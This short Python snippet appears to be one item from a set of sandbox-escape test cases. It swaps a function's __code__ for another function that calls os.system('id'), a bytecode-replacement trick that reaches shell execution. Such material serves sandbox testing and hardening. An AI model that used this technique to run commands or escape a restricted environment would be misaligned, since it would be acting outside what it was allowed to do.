# family: F (code.replace: a function made of other bytecode)   goal: id
def target():
    return 1
def evil():
    import os
    os.system("id")
F = type(target)
match target:
    case F(__code__=c):
        target.__code__ = evil.__code__
target()
